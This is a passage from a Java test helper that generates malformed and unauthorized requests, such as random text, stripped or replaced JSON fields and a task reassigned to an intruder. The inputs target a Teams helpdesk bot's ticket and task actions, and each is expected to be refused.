			return new HostileInput(kind, this.method, this.path, this.id, null, contentType,
					requestBody != null ? requestBody : this.body.toString(), Expect.REFUSED);
		}

	}

	// ------------------------------------------------------------------ building blocks

	private TeamsActivity message() {
		return TeamsActivity.personalMessage("help")
			.conversation(nextConversation())
			.serviceUrl(this.fixture.serviceUrl());
	}

	private TeamsActivity helpClick() {
		return TeamsActivity.cardAction("help", Map.of())
			.conversation(nextConversation())
			.serviceUrl(this.fixture.serviceUrl());
	}

	private TeamsActivity channelClick(String verb, Map<String, Object> data, Member who) {
		TeamsActivity click = TeamsActivity.cardAction(verb, data)
			.from(who.id(), who.aadObjectId(), who.name())
			.serviceUrl(this.fixture.serviceUrl());
		click.node()
			.withObjectProperty("conversation")
			.put("conversationType", "channel")
			.put("id", this.fixture.itChannel());
		return click;
	}

	private void addInputs(Map<String, Object> data, String verb, String taskId) {
		switch (verb) {
			case "task.notNeeded" -> data.put("reason-" + taskId, "Not needed after all");
			case "task.reassign" -> data.put("assignee-" + taskId, "Eve Intruder");
			default -> {
			}
		}
	}

	private String nextConversation() {
		return "a:bad-input-" + (++this.conversations);
	}

	private static String encode(String value) {
		return java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8);
	}

	private <T> T pick(List<T> options) {
		return options.get(this.random.nextInt(options.size()));
	}

	private String randomText(int length) {
		StringBuilder text = new StringBuilder(length);
		for (int i = 0; i < length; i++) {
			int kind = this.random.nextInt(10);
			char c = kind < 6 ? (char) (32 + this.random.nextInt(95))
					: kind < 8 ? (char) (0x80 + this.random.nextInt(0x700)) : (char) this.random.nextInt(32);
			text.append(c);
		}
		return text.toString();
	}

	private String randomLetters(int length) {
		StringBuilder text = new StringBuilder().append((char) ('A' + this.random.nextInt(26)));
		for (int i = 1; i < length; i++) {
			text.append((char) ('a' + this.random.nextInt(26)));
		}
		return text.toString();
	}

	private String randomHex(int length) {
		StringBuilder text = new StringBuilder();
		for (int i = 0; i < length; i++) {
			text.append(Character.forDigit(this.random.nextInt(16), 16));
		}
		return text.toString();
	}

	private String words(int length) {
		StringBuilder text = new StringBuilder(length);
		while (text.length() < length) {
			text.append(
					pick(List.of("and ", "starts ", "on ", "December ", "7 ", "as ", "manager ", "Jan ", "leaves ")));
		}
		return text.substring(0, length);
	}

	/** Every field of a JSON object, nested ones as dotted paths. */
	static List<String> fieldPaths(JsonNode node, String prefix) {
		List<String> paths = new ArrayList<>();
		Iterator<Map.Entry<String, JsonNode>> fields = node.properties().iterator();
		while (fields.hasNext()) {
			Map.Entry<String, JsonNode> field = fields.next();
			String path = prefix + field.getKey();
			paths.add(path);
			if (field.getValue().isObject()) {
				paths.addAll(fieldPaths(field.getValue(), path + "."));
			}
		}
		return paths;
	}

	private static void replace(ObjectNode root, String path, JsonNode value) {
		String[] parts = path.split("\\.");
		ObjectNode parent = root;
		for (int i = 0; i < parts.length - 1; i++) {
			parent = parent.withObjectProperty(parts[i]);
		}
		parent.set(parts[parts.length - 1], value);
	}

	private static void remove(ObjectNode root, String path) {
		String[] parts = path.split("\\.");
		JsonNode parent = root;
		for (int i = 0; i < parts.length - 1; i++) {
			parent = parent.path(parts[i]);
		}
		if (parent instanceof ObjectNode object) {
			object.remove(parts[parts.length - 1]);
		}
	}

	/**
	 * What the inputs aim at: a team whose General channel is IT's and whose Facilities
	 * channel is FM's, a staff member of each, and an open ticket with an IT and an FM
	 * task.
	 */
	record Fixture(String serviceUrl, String itChannel, Member itStaff, Member fmStaff, String ticketKey,
			String itTaskId, String fmTaskId, String employeeId) {
	}

}
